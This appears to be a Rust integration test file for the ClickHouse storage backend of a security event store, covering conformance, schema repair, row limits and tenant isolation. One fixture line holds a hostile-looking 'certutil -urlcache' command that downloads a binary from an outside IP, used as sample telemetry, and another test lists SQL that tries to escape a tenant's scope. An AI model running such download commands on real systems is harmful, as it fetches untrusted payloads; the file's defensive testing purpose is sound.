//! The ClickHouse store against a real server (`VEDETTE_CLICKHOUSE_URL`, started by
//! deploy/local/up.sh: Debian's clickhouse-server 18.16): the store conformance suite,
//! plus what only ClickHouse has (profiles, ledger, map rewriting, schema completion,
//! an unreachable server).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use common::store_suite;
use futures::StreamExt;
use vedette_core::traits::{EventStore, QueryScope, Table, WriteBatching};
use vedette_core::CoreError;
use vedette_storage::clickhouse::{ClickHouseOptions, ClickHouseStore, Profile};
use vedette_storage::QueryLimits;

fn url() -> String {
    std::env::var("VEDETTE_CLICKHOUSE_URL").expect(
        "VEDETTE_CLICKHOUSE_URL is not set: start the test services with deploy/local/up.sh \
         (scripts/test.sh does) and export the variables of its services.env",
    )
}

fn options(database: &str, limits: QueryLimits) -> ClickHouseOptions {
    ClickHouseOptions {
        url: url(),
        database: database.into(),
        user: "default".into(),
        password: None,
        retention_days: 30,
        limits,
        batching: WriteBatching::IMMEDIATE,
    }
}

/// A database of its own for each test, empty.
async fn fresh(tag: &str) -> String {
    static N: AtomicU32 = AtomicU32::new(0);
    let name = format!(
        "vt_{tag}_{}_{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    );
    clickhouse::Client::default()
        .with_url(url())
        .query(&format!("DROP DATABASE IF EXISTS {name}"))
        .execute()
        .await
        .unwrap();
    name
}

async fn store(tag: &str) -> ClickHouseStore {
    ClickHouseStore::open(options(&fresh(tag).await, QueryLimits::default()))
        .await
        .unwrap()
}

#[tokio::test]
async fn conformance_events_are_stored_and_queried() {
    store_suite::events_are_stored_and_queried(&store("stored").await).await;
}

#[tokio::test]
async fn conformance_redelivery_is_idempotent() {
    store_suite::redelivery_is_idempotent(&store("redelivery").await).await;
}

#[tokio::test]
async fn conformance_grouped_appends_are_idempotent() {
    store_suite::grouped_appends_are_idempotent(&store("grouped").await).await;
}

#[tokio::test]
async fn conformance_events_are_read_back_by_time() {
    store_suite::events_are_read_back_by_time(&store("readback").await).await;
}

#[tokio::test]
async fn conformance_alerts_and_dead_letters() {
    store_suite::alerts_and_dead_letters(&store("alerts").await).await;
}

#[tokio::test]
async fn conformance_queries_are_read_only() {
    store_suite::queries_are_read_only(&store("readonly").await).await;
}

#[tokio::test]
async fn conformance_wrong_shape_is_refused() {
    store_suite::wrong_shape_is_refused(&store("shape").await).await;
}

#[tokio::test]
async fn conformance_compaction_changes_no_answer() {
    store_suite::compaction_changes_no_answer(&store("compaction").await).await;
}

#[tokio::test]
async fn conformance_retention_drops_old_days() {
    store_suite::retention_drops_old_days(&store("retention").await, 30).await;
}

#[tokio::test]
async fn the_test_server_gets_the_portable_profile() {
    let s = store("profile").await;
    // Debian's 18.16: the oldest server supported.
    if s.server_version().starts_with("18.") {
        assert_eq!(s.profile(Table::Events), Profile::Portable);
    }
    assert_eq!(
        Profile::for_version(s.server_version()),
        s.profile(Table::Alerts)
    );
}

#[tokio::test]
async fn results_stop_at_the_row_limit() {
    let limits = QueryLimits {
        max_rows: 7,
        timeout: Duration::from_secs(30),
    };
    let s = ClickHouseStore::open(options(&fresh("limit").await, limits))
        .await
        .unwrap();
    s.append(Table::Events, &store_suite::events("l", 10, 2, 0))
        .await
        .unwrap();
    let got: usize = store_suite::rows(&s, "SELECT * FROM events")
        .await
        .unwrap()
        .iter()
        .map(|b| b.num_rows())
        .sum();
    assert_eq!(got, 7);
}

#[tokio::test]
async fn reopening_keeps_data_and_completes_missing_columns() {
    let database = fresh("reopen").await;
    let s = ClickHouseStore::open(options(&database, QueryLimits::default()))
        .await
        .unwrap();
    s.append(
        Table::Events,
        &store_suite::at(store_suite::events("k", 5, 1, 0), 4),
    )
    .await
    .unwrap();
    drop(s);
    // A column lost (as if the table came from an older Vedette) is added back.
    clickhouse::Client::default()
        .with_url(url())
        .query(&format!(
            "ALTER TABLE {database}.events DROP COLUMN `dns.question.name`"
        ))
        .execute()
        .await
        .unwrap();
    let s = ClickHouseStore::open(options(&database, QueryLimits::default()))
        .await
        .unwrap();
    assert_eq!(
        store_suite::count(
            &s,
            "SELECT count(*) FROM events WHERE \"dns.question.name\" IS NULL"
        )
        .await,
        5
    );
    // The ledger survived the restart: the same batch is still not stored twice.
    s.append(
        Table::Events,
        &store_suite::at(store_suite::events("k", 5, 1, 0), 4),
    )
    .await
    .unwrap();
    assert_eq!(
        store_suite::count(&s, "SELECT count(*) FROM events").await,
        5
    );
}

#[tokio::test]
async fn map_lookups_work_with_aliases_and_in_results() {
    let s = store("maps").await;
    s.append(Table::Events, &store_suite::events("m", 10, 1, 0))
        .await
        .unwrap();
    let got = store_suite::strings(
        &s,
        "SELECT e.fields['CommandLine'] FROM events AS e \
         WHERE e.fields['CommandLine'] LIKE 'certutil%' ORDER BY e.\"event.id\" LIMIT 1",
    )
    .await;
    assert_eq!(got, ["certutil.exe -urlcache -f http://198.51.100.0/x.bin"]);
}

#[tokio::test]
async fn bad_sql_names_the_servers_reason() {
    let s = store("badsql").await;
    let err = store_suite::rows(&s, "SELECT nope FROM events")
        .await
        .unwrap_err();
    match err {
        CoreError::BadInput(m) => assert!(m.contains("nope"), "{m}"),
        other => panic!("{other}"),
    }
}

#[tokio::test]
async fn an_unreachable_server_is_a_clear_error() {
    let mut o = options("vedette", QueryLimits::default());
    // Nothing listens on port 9 (discard) on loopback in the test environment.
    o.url = "http://127.0.0.1:9".into();
    let started = std::time::Instant::now();
    let err = tokio::time::timeout(Duration::from_secs(60), ClickHouseStore::open(o))
        .await
        .expect("open gives up within its patience")
        .err()
        .expect("no server there");
    assert!(
        err.to_string().contains("cannot reach http://127.0.0.1:9"),
        "{err}"
    );
    assert!(started.elapsed() >= Duration::from_secs(5));
}

#[tokio::test]
async fn conformance_tenant_scope_confines_every_table() {
    store_suite::tenant_scope_confines_every_table(&store("tenants").await).await;
}

#[tokio::test]
async fn a_tenant_query_cannot_name_other_databases_or_table_functions() {
    let database = fresh("escape").await;
    let s = ClickHouseStore::open(options(&database, QueryLimits::default()))
        .await
        .unwrap();
    s.append(Table::Events, &store_suite::events("e", 4, 1, 0))
        .await
        .unwrap();
    // The suite's events name no tenant: they belong to the default one.
    let scope = QueryScope::tenant("default");
    for sql in [
        format!("SELECT count() FROM {database}.events"),
        "SELECT name FROM system.tables".to_string(),
        "SELECT * FROM numbers(3)".to_string(),
        format!("SELECT * FROM merge('{database}', '.*')"),
        "SELECT count() FROM events SETTINGS max_threads = 1".to_string(),
    ] {
        match s.query(&sql, &scope).await {
            Err(CoreError::BadInput(m)) => assert!(m.contains("tenant"), "{sql}: {m}"),
            Err(e) => panic!("{sql}: {e}"),
            Ok(_) => panic!("{sql}: a tenant's query reached outside its views"),
        }
    }
    // The tenant's own rows are there.
    let mut stream = s.query("SELECT count() FROM events", &scope).await.unwrap();
    let batch = stream.next().await.unwrap().unwrap();
    assert_eq!(
        arrow::util::display::array_value_to_string(batch.column(0), 0).unwrap(),
        "4"
    );
}
